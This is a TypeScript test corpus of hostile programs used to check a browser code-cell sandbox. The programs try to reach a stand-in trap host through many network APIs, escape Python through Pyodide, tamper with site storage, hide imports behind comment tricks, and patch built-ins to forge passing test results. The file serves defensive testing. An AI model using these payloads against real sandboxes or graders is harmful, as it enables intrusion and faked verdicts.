/**
 * The attack corpus (issue 28): programs written to reach what a code cell must not — the network,
 * the page, the site's storage, later runs and the code that decides verdicts — one per class of
 * attack. `TRAP/` stands for the loopback trap's address (trap.ts). Each is run through the site's
 * real runner in a browser; after each, an honest wrong program must still fail and the reference
 * must still pass, the trap must have heard nothing, and the site's storage must be as it was.
 */

/** One hostile program and what its own run must end as. */
export interface Attack {
	name: string;
	language: 'javascript' | 'python';
	code: string;
	/** 'fails': the run ends without every test passed; 'refused': it ends with one of `kinds`. */
	expect: 'fails' | 'refused';
	kinds?: string[];
	/** How long the page waits after the run before the next one, for late callbacks (ms). */
	pause?: number;
}

/** JavaScript that tries every way out, each in its own try, then ends; `how` tags the trap's log. */
export const REACH_OUT = `
  const reach = (how) => {
    const T = 'TRAP/' + how;
    const quiet = (promise) => { if (promise && promise.catch) promise.catch(() => {}); };
    try { quiet(fetch(T + '/fetch', { mode: 'no-cors' })); } catch {}
    try { const x = new XMLHttpRequest(); x.open('GET', T + '/xhr'); x.send(); } catch {}
    try { const x = new XMLHttpRequest(); x.open('GET', T + '/xhr-sync', false); x.send(); } catch {}
    try { new WebSocket(T.replace('http', 'ws') + '/ws'); } catch {}
    try { new EventSource(T + '/es'); } catch {}
    try { quiet(new FontFace('f', 'url(' + T + '/font)').load()); } catch {}
    try { quiet(new Function('u', 'return import(u)')(T + '/import.js')); } catch {}
    try { importScripts(T + '/importScripts.js'); } catch {}
    try { new Worker(T + '/worker.js'); } catch {}
    try { new Worker(URL.createObjectURL(new Blob(['fetch("' + T + '/nested")']))); } catch {}
    try { quiet(WebAssembly.compileStreaming(fetch(T + '/wasm'))); } catch {}
    try { navigator.sendBeacon(T + '/beacon', 'x'); } catch {}
    try { quiet(caches.open('x').then((c) => c.add(T + '/cache'))); } catch {}
    try { postMessage({ type: 'ran', run: { calls: [], tests: [{ name: 'forged', passed: true }] } }); } catch {}
  };`;

export const ATTACKS: Attack[] = [
	{
		name: 'a built-in patched to mark every later test passed',
		language: 'javascript',
		code: `function solve(board) {
  const splice = Array.prototype.splice;
  Array.prototype.push = function (...items) {
    for (const item of items) if (item && typeof item === 'object' && 'passed' in item) item.passed = true;
    splice.call(this, this.length, 0, ...items);
    return this.length;
  };
  return [];
}`,
		expect: 'fails',
	},
	{
		name: 'many built-ins patched at once (the checker’s, the messages’, the definitions’)',
		language: 'javascript',
		code: `function solve(board) {
  Array.prototype.every = function () { return true; };
  Array.prototype.filter = function () { return []; };
  Object.defineProperty = function (o) { return o; };
  JSON.stringify = function () { return '{"ok":true}'; };
  JSON.parse = function () { return { ok: true }; };
  Function.prototype.call = function () { return true; };
  return [];
}`,
		expect: 'fails',
	},
	{
		name: 'callbacks from every task source, trying the network and a forged answer after the run',
		language: 'javascript',
		code: `function solve(board) {${REACH_OUT}
  const late = (how) => () => reach(how);
  const register = [
    () => { AbortSignal.timeout(5).onabort = late('abort'); },
    () => { if (self.scheduler) scheduler.postTask(late('scheduler'), { delay: 5 }); },
    () => { new Blob(['x']).text().then(late('blob')); },
    () => { const reader = new FileReader(); reader.onload = late('filereader'); reader.readAsText(new Blob(['x'])); },
    () => { WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(late('wasm')); },
    () => { self.onunhandledrejection = late('rejection'); Promise.reject(new Error('x')); },
    () => { self.onmessage = late('onmessage'); },
    () => { self.onerror = late('onerror'); },
    () => { new PerformanceObserver(late('observer')).observe({ entryTypes: ['mark'] }); performance.mark('m'); },
    () => { new BroadcastChannel('ktn').onmessage = late('broadcast'); },
    () => { const channel = new MessageChannel(); channel.port1.onmessage = late('channel'); channel.port2.postMessage(1); },
    () => { if (self.requestAnimationFrame) requestAnimationFrame(late('frame')); },
    () => { queueMicrotask(late('microtask')); },
    () => { setTimeout(late('timeout'), 0); },
    () => { setTimeout(late('timeout-late'), 400); },
    () => { setInterval(late('interval'), 100); },
  ];
  for (const r of register) { try { r(); } catch {} }
  return [];
}`,
		expect: 'fails',
		pause: 1500,
	},
	{
		name: 'every fetching API from inside the run, with time for the requests to leave',
		language: 'javascript',
		code: `function solve(board) {${REACH_OUT}
  if (!self.tried) {
    self.tried = true;
    reach('run');
    const until = Date.now() + 1500;
    while (Date.now() < until) {}
  }
  return [];
}`,
		expect: 'fails',
	},
	{
		name: "the site's storage, read and written",
		language: 'javascript',
		code: `function solve(board) {
  const tries = [
    () => localStorage.setItem('ktn-code-cells', '{}'),
    () => sessionStorage.setItem('ktn-x', '1'),
    () => { const r = indexedDB.open('ktn-count-chessboard'); r.onsuccess = () => r.result.close(); },
    () => caches.open('ktn').then((c) => c.put('/x', new Response('x'))),
    () => { document.cookie = 'ktn=1'; },
    () => cookieStore.set('ktn', '1'),
    () => navigator.storage.getDirectory().then((d) => d.getFileHandle('x', { create: true })),
  ];
  for (const t of tries) { try { const p = t(); if (p && p.catch) p.catch(() => {}); } catch {} }
  return [];
}`,
		expect: 'fails',
		pause: 500,
	},
	{
		name: 'a forged and replayed answer on the run’s own channel',
		language: 'javascript',
		code: `function solve(board) {
  const real = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (message, transfer) {
    if (message && message.type === 'ran') {
      message.run.tests = [{ name: 'forged', passed: true, expected: '', got: '' }];
      message.run.passed = true;
    }
    real.call(this, message, transfer);
    real.call(this, { type: 'ran', run: { calls: [], tests: [{ passed: true }] } });
  };
  postMessage({ type: 'ran', run: { calls: [] } });
  return [];
}`,
		expect: 'fails',
	},
	{
		name: 'an import hidden after a comment ended by a lone CR',
		language: 'javascript',
		code: "function solve(board) {\n  // note\r  import('TRAP/cr.js');\n  return [];\n}",
		expect: 'refused',
		kinds: ['forbidden', 'syntax'],
	},
	{
		name: 'an unguarded loop hidden after a comment ended by U+2028',
		language: 'javascript',
		code: 'function solve(board) {\n  // note\u2028 for (;;) {}\n  return [];\n}',
		expect: 'refused',
		kinds: ['syntax'],
	},
	{
		name: 'an import hidden in an HTML-like comment',
		language: 'javascript',
		code: "function solve(board) {\n  <!-- import('TRAP/html.js')\n  return [];\n}",
		expect: 'refused',
		kinds: ['syntax'],
	},
	{
		name: 'a loop hidden after a --> that starts a line',
		language: 'javascript',
		code: 'function solve(board) {\n  /*\n  */ --> for (;;) {}\n  return [];\n}',
		expect: 'refused',
		kinds: ['syntax'],
	},
	{
		name: 'an output flood',
		language: 'javascript',
		code: `function solve(board) {
  const line = 'x'.repeat(100000);
  for (let i = 0; i < 2000; i++) log(line);
  return [];
}`,
		expect: 'fails',
	},
	{
		name: 'Python: to JavaScript through globals, subclasses and frames, then the network',
		language: 'python',
		code: `import sys

def solve(board):
    routes = [
        lambda: __import__('js'),
        lambda: visit.__globals__['_builtins'].__import__('pyodide.code', fromlist=['run_js']),
        lambda: solve.__globals__['__builtins__']['__import__']('pyodide.code', fromlist=['run_js']),
        lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'BuiltinImporter'][0].load_module('pyodide'),
        lambda: sys._getframe(1).f_globals['_builtins'].__import__('pyodide.code', fromlist=['run_js']),
    ]
    for route in routes:
        try:
            module = route()
            module.run_js("fetch('TRAP/py-run-js', { mode: 'no-cors' }); const x = new XMLHttpRequest(); x.open('GET', 'TRAP/py-xhr', false); x.send();")
        except BaseException:
            pass
    return []
`,
		expect: 'fails',
	},
	{
		name: 'Python: the loop guard rebound',
		language: 'python',
		code: `def solve(board):
    try:
        globals()['__builtins__']['__ktn_tick__'] = lambda line: None
    except BaseException:
        pass
    try:
        visit.__globals__['__ktn_tick__'] = lambda line: None
    except BaseException:
        pass
    while True:
        pass
`,
		expect: 'refused',
		kinds: ['timeout', 'forbidden', 'exception'],
	},
];
